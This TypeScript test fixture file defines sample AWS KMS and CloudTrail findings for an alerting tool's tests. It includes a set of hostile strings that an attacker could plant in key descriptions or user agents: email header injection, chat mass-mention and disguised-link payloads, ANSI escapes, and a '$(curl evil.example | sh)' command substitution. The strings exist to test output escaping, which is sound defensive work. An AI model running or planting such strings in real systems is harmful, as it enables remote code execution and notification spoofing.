/**
 * Findings for the alert tests, shaped as the core produces them. Ids, times, principals and the key policy come
 * from the public CloudTrail samples in ../shared/samples/cloudtrail (PutKeyPolicy__awskmsdg__1,
 * ScheduleKeyDeletion__awskmsdg__1, EnableKeyRotation__awskmsdg__1, StopLogging__stratus__1), copied here so the
 * tests do not depend on files outside the repository.
 */

import type { Finding } from '../../lambda/core/types';

export const ACCOUNT = '111122223333';
export const REGION = 'us-west-2';
export const KEY_ID = '1234abcd-12ab-34cd-56ef-1234567890ab';
export const KEY_ARN = `arn:aws:kms:${REGION}:${ACCOUNT}:key/${KEY_ID}`;
export const ALICE = `arn:aws:iam::${ACCOUNT}:user/Alice`;
export const MALLORY = `arn:aws:sts::${ACCOUNT}:assumed-role/ReadOnly/mallory`;
export const TRAIL_ACCOUNT = '143434273843';
export const TRAIL_NAME = 'stratus-red-team-ct-stop-trail-buykxbqejv';
// The sample's awsRegion is a made-up test Region; a real one keeps the console link meaningful.
export const TRAIL_ARN = `arn:aws:cloudtrail:us-east-1:${TRAIL_ACCOUNT}:trail/${TRAIL_NAME}`;

/** The key policy from PutKeyPolicy__awskmsdg__1 (the KMS default policy). */
export const DEFAULT_POLICY = {
  Version: '2012-10-17',
  Id: 'key-default-1',
  Statement: [
    {
      Sid: 'Enable IAM User Permissions',
      Effect: 'Allow',
      Principal: { AWS: `arn:aws:iam::${ACCOUNT}:root` },
      Action: 'kms:*',
      Resource: '*',
    },
  ],
};

/** The same policy with a statement that lets account 444455556666 decrypt. */
export const OPENED_POLICY = {
  ...DEFAULT_POLICY,
  Statement: [
    ...DEFAULT_POLICY.Statement,
    {
      Sid: 'Allow partner decrypt',
      Effect: 'Allow',
      Principal: { AWS: 'arn:aws:iam::444455556666:root' },
      Action: ['kms:Decrypt', 'kms:DescribeKey'],
      Resource: '*',
    },
  ],
};

/** The policy change of a PutKeyPolicy that opened the key to account 444455556666. */
const POLICY_OPENED_TO_ANOTHER_ACCOUNT = {
  before: DEFAULT_POLICY,
  after: OPENED_POLICY,
  added_principals: ['arn:aws:iam::444455556666:root'],
  removed_principals: [],
  external_accounts: ['444455556666'],
};

const keyFlag = `--key-id ${KEY_ARN} --region ${REGION}`;

export const putKeyPolicyOpened: Finding = {
  service: 'kms',
  event: 'PutKeyPolicy',
  eventId: 'c217db1f-903f-4a2f-8f88-9580182d6313',
  timestamp: '2022-09-01T20:06:16Z',
  account: ACCOUNT,
  region: REGION,
  resource: KEY_ARN,
  user: ALICE,
  severity: 'critical',
  status: 'drift',
  changes: { policy: POLICY_OPENED_TO_ANOTHER_ACCOUNT },
  summary: 'Key policy of alias/payments opened to account 444455556666 by Alice',
  remediation: [`aws kms put-key-policy ${keyFlag} --policy-name default --policy '${JSON.stringify(DEFAULT_POLICY)}'`],
  reasons: ['A change that lets another account, or anyone, use the key is critical.'],
};

export const scheduleKeyDeletion: Finding = {
  service: 'kms',
  event: 'ScheduleKeyDeletion',
  eventId: '3c4226b0-1e81-48a8-a333-7fa5f3cbd118',
  timestamp: '2021-03-23T18:58:30Z',
  account: ACCOUNT,
  region: REGION,
  resource: KEY_ARN,
  user: ALICE,
  severity: 'critical',
  status: 'drift',
  changes: {
    key_state: { before: 'Enabled', after: 'PendingDeletion' },
    deletion_date: { before: null, after: '2021-04-12T18:58:30Z' },
  },
  summary: 'Key alias/payments scheduled for deletion on 2021-04-12T18:58:30Z by Alice',
  remediation: [`aws kms cancel-key-deletion ${keyFlag}`, `aws kms enable-key ${keyFlag}`],
};

export const enableKeyRotationResolved: Finding = {
  service: 'kms',
  event: 'EnableKeyRotation',
  eventId: 'fefc43a7-8e06-419f-bcab-b3bf18d6a401',
  timestamp: '2020-07-25T23:41:56Z',
  account: ACCOUNT,
  region: REGION,
  resource: KEY_ARN,
  user: ALICE,
  severity: 'info',
  status: 'resolved',
  changes: { enable_key_rotation: { before: false, after: true } },
  summary: 'Automatic rotation of key alias/payments enabled (every 365 days) by Alice',
  remediation: [],
};

export const deniedPutKeyPolicy: Finding = {
  service: 'kms',
  event: 'PutKeyPolicy',
  eventId: '5d3b1c7e-8a2f-4e19-9c4d-0b6a7e2f1d38',
  timestamp: '2022-09-02T08:14:05Z',
  account: ACCOUNT,
  region: REGION,
  resource: KEY_ARN,
  user: MALLORY,
  severity: 'warning',
  status: 'denied',
  changes: {},
  summary: 'PutKeyPolicy on alias/payments denied for mallory (AccessDeniedException)',
  remediation: [],
  error: {
    code: 'AccessDeniedException',
    message:
      `User: ${MALLORY} is not authorized to perform: kms:PutKeyPolicy on resource: ${KEY_ARN} ` +
      'because no resource-based policy allows the kms:PutKeyPolicy action',
  },
};

export const stopLogging: Finding = {
  service: 'cloudtrail',
  event: 'StopLogging',
  eventId: '10163ed2-2253-469d-a5ee-cbc6651f8934',
  timestamp: '2024-07-31T13:06:24Z',
  account: TRAIL_ACCOUNT,
  region: 'us-east-1',
  resource: TRAIL_ARN,
  user: `arn:aws:iam::${TRAIL_ACCOUNT}:user/christophe`,
  severity: 'critical',
  status: 'drift',
  changes: { logging: { before: true, after: false } },
  summary: `Trail ${TRAIL_NAME} stopped logging (by christophe)`,
  remediation: [`aws cloudtrail start-logging --name ${TRAIL_ARN} --region us-east-1`],
  reasons: ['A trail that stops logging blinds keydrift and the auditors.'],
};

/**
 * A PutKeyPolicy that failed (AccessDenied) but would have dropped CloudTrail from the key of a trail, as the core
 * reports it: the attempted policy under `changes`, the rule's reason prefixed with what it would have done.
 */
export const deniedPolicyAttempt: Finding = {
  ...deniedPutKeyPolicy,
  eventId: '1eafb04a-5d49-496a-9c50-183e3bb03375',
  changes: {
    policy: {
      ...POLICY_OPENED_TO_ANOTHER_ACCOUNT,
      cloudtrail_access_removed: true,
    },
  },
  reasons: [
    'had it succeeded: NoOutsideAccessGained: account 444455556666 gained access',
    `had it succeeded: TrailKeyKeepsCloudTrailAccess: CloudTrail can no longer encrypt the logs of ${TRAIL_ARN} with this key`,
  ],
};

/** An UpdateTrail that removed the trail's KMS key (`kms_key_id` after is null: now none), escalated by its rule. */
export const trailKeyRemoved: Finding = {
  ...stopLogging,
  event: 'UpdateTrail',
  eventId: 'a22ad086-e1f0-4ba1-bc63-34ab77506b68',
  changes: { kms_key_id: { before: KEY_ARN, after: null } },
  summary: `Trail ${TRAIL_NAME} left without a KMS key by christophe: its logs are no longer encrypted with KMS`,
  remediation: [`aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-east-1 --kms-key-id ${KEY_ARN}`],
  reasons: ['TrailKeepsKmsKey: the trail is left without a KMS key: its log files are no longer encrypted with KMS'],
};

/** A CancelKeyDeletion: the deletion date is gone (back at its baseline), the key is left Disabled (info drift). */
export const cancelKeyDeletion: Finding = {
  ...scheduleKeyDeletion,
  event: 'CancelKeyDeletion',
  eventId: '91c149f3-fc50-42b9-8777-5fcb25a9b328',
  severity: 'info',
  status: 'drift',
  changes: {
    key_state: { before: 'PendingDeletion', after: 'Disabled' },
    deletion_date: { before: '2021-04-12T18:58:30Z', after: null, back_to_baseline: true },
  },
  summary: 'Deletion of key alias/payments cancelled by Alice; the key is left Disabled',
  remediation: [`aws kms enable-key ${keyFlag}`],
};

/** KMS deleting the key at the end of the waiting period no one approved (critical drift), as the replay reports it. */
export const deleteKey: Finding = {
  ...scheduleKeyDeletion,
  event: 'DeleteKey',
  eventId: 'b25f9cda-74e1-4458-847b-4972a0bf9668',
  timestamp: '2021-04-12T19:42:07Z',
  user: 'kms.amazonaws.com',
  changes: {
    key_state: { before: 'PendingDeletion', after: 'Deleted' },
    deletion_date: { before: '2021-04-12T18:58:30Z', after: null, back_to_baseline: true },
  },
  summary: 'Key alias/payments deleted by KMS at the end of its waiting period',
  remediation: [`# ${KEY_ARN} is deleted and cannot be restored: data encrypted under it can no longer be decrypted`],
  sourceIp: 'AWS Internal',
  userAgent: 'AWS Internal',
};

/** Strings an attacker can place in a key description, tag, session name or anything else a record carries. */
export const HOSTILE = {
  headerInjection: 'Payments key\r\nBcc: x@evil.example\r\nSubject: all clear',
  channelMention: '<!channel> rotate now',
  disguisedLink: '<https://evil.example|click to restore access>',
  ansi: '\u001b[31mRED\u001b[0m \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
  backticks: '```$(curl evil.example | sh)``` `x`',
  markdown: '*bold* _italic_ ~strike~ [docs](https://evil.example)',
  bareMention: '@here look',
  hugeTagValue: 'A'.repeat(40 * 1024),
} as const;

export const HOSTILE_DESCRIPTION = [
  HOSTILE.headerInjection,
  HOSTILE.channelMention,
  HOSTILE.disguisedLink,
  HOSTILE.ansi,
  HOSTILE.backticks,
  HOSTILE.markdown,
  HOSTILE.bareMention,
].join(' ');

/** A user agent, which the caller chooses freely, carrying every hostile string. */
export const HOSTILE_USER_AGENT = `aws-cli/2.17.0 ${HOSTILE_DESCRIPTION}`;

/** An UpdateKeyDescription whose new description, actor, source identity, user agent and summary are all hostile. */
export const hostileDescription: Finding = {
  service: 'kms',
  event: 'UpdateKeyDescription',
  eventId: '0f1e2d3c-4b5a-4968-8776-655443322110',
  timestamp: '2022-09-03T02:59:00Z',
  account: ACCOUNT,
  region: REGION,
  resource: KEY_ARN,
  // Session names may contain `@`, so `@here` is a legal one.
  user: `arn:aws:sts::${ACCOUNT}:assumed-role/Dev/@here`,
  severity: 'error',
  status: 'drift',
  changes: { description: { before: 'Payments key', after: HOSTILE_DESCRIPTION } },
  summary: `Description of key alias/payments changed by @here to ${HOSTILE_DESCRIPTION}`,
  remediation: [`aws kms update-key-description ${keyFlag} --description 'Payments key'`],
  reasons: [HOSTILE.channelMention],
  sourceIp: '203.0.113.5',
  userAgent: HOSTILE_USER_AGENT,
  // STS allows no spaces or `<` in a source identity, but a replayed record is whatever the file says.
  sourceIdentity: HOSTILE_DESCRIPTION,
};

/** A TagResource whose tag value is 40 KB and whose summary repeats it, as the core's tag summary does. */
export const hostileTag: Finding = {
  service: 'kms',
  event: 'TagResource',
  eventId: '7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d',
  timestamp: '2022-09-03T03:01:00Z',
  account: ACCOUNT,
  region: REGION,
  resource: KEY_ARN,
  user: MALLORY,
  severity: 'error',
  status: 'drift',
  changes: {
    tags: {
      before: { owner: 'payments-team' },
      after: { owner: HOSTILE.hugeTagValue, note: `${HOSTILE.channelMention} ${HOSTILE.disguisedLink}` },
    },
  },
  summary: `Tags of alias/payments changed by mallory: owner=${HOSTILE.hugeTagValue}`,
  remediation: [`aws kms tag-resource ${keyFlag} --tags 'TagKey=owner,TagValue=payments-team'`],
};

/** A key policy of about `bytes` bytes of compact JSON, granting many roles in the key's own account. */
export function largePolicy(bytes: number): typeof DEFAULT_POLICY {
  const statement = (i: number) => ({
    Sid: `AllowRole${i}`,
    Effect: 'Allow',
    Principal: { AWS: `arn:aws:iam::${ACCOUNT}:role/service-role/application-role-${String(i).padStart(5, '0')}` },
    Action: 'kms:Decrypt',
    Resource: '*',
  });
  const statements = [...DEFAULT_POLICY.Statement];
  for (let i = 0; JSON.stringify({ ...DEFAULT_POLICY, Statement: statements }).length < bytes; i++) {
    statements.push(statement(i) as (typeof statements)[number]);
  }
  return { ...DEFAULT_POLICY, Statement: statements };
}

/** A PutKeyPolicy that replaces one 32 KB policy with another: the largest policy KMS accepts. */
export const largePolicyChange: Finding = {
  ...putKeyPolicyOpened,
  changes: {
    policy: {
      ...putKeyPolicyOpened.changes.policy!,
      before: largePolicy(32_000),
      after: { ...largePolicy(32_000), Id: 'key-consolepolicy-3' },
    },
  },
};

/** Everything at once, far beyond any channel's limit: 32 KB policies, 5,000 principals, 2 MB of tags. */
export const hugeFinding: Finding = {
  ...putKeyPolicyOpened,
  eventId: '9e8d7c6b-5a49-4837-a625-1403f2e1d0c9',
  changes: {
    policy: {
      before: largePolicy(32_000),
      after: largePolicy(32_700),
      added_principals: Array.from({ length: 5000 }, (_, i) => `arn:aws:iam::${String(400000000000 + i)}:root`),
      removed_principals: [],
      external_accounts: Array.from({ length: 5000 }, (_, i) => String(400000000000 + i)),
    },
    tags: {
      before: {},
      after: Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`tag${i}`, HOSTILE.hugeTagValue])),
    },
    description: { before: 'Payments key', after: HOSTILE.hugeTagValue },
  },
  summary: `Key policy of alias/payments opened to 5000 accounts by Alice ${HOSTILE.hugeTagValue.repeat(3)}`,
  remediation: Array.from(
    { length: 30 },
    (_, i) => `aws kms tag-resource ${keyFlag} --tags 'TagKey=t${i},TagValue=${'v'.repeat(5000)}'`,
  ),
  reasons: Array.from({ length: 100 }, () => 'x'.repeat(1000)),
};

/** Every fixture, for properties that must hold whatever the finding. */
export const ALL_FINDINGS: Array<[string, Finding]> = [
  ['PutKeyPolicy opening the key', putKeyPolicyOpened],
  ['ScheduleKeyDeletion', scheduleKeyDeletion],
  ['resolved EnableKeyRotation', enableKeyRotationResolved],
  ['denied PutKeyPolicy', deniedPutKeyPolicy],
  ['denied PutKeyPolicy with its attempted policy', deniedPolicyAttempt],
  ['UpdateTrail removing the KMS key', trailKeyRemoved],
  ['CancelKeyDeletion', cancelKeyDeletion],
  ['DeleteKey', deleteKey],
  ['trail StopLogging', stopLogging],
  ['hostile description', hostileDescription],
  ['hostile 40 KB tag', hostileTag],
  ['32 KB policy change', largePolicyChange],
  ['huge finding', hugeFinding],
];

/** `n` grants to other accounts' roles, each with an encryption context, as an application's grants look. */
export const applicationGrants = (n: number): Record<string, unknown> =>
  Object.fromEntries(
    Array.from({ length: n }, (_, i) => [
      `${'a'.repeat(56)}${String(i).padStart(8, '0')}`,
      {
        grantee_principal: `arn:aws:iam::${400000000000 + i}:role/${'r'.repeat(60)}`,
        retiring_principal: null,
        operations: ['Decrypt', 'Encrypt', 'GenerateDataKey', 'ReEncryptFrom', 'ReEncryptTo', 'CreateGrant'],
        constraints: { encryptionContextSubset: { Department: 'x'.repeat(100) } },
        name: `grant-${i}`,
      },
    ]),
  );
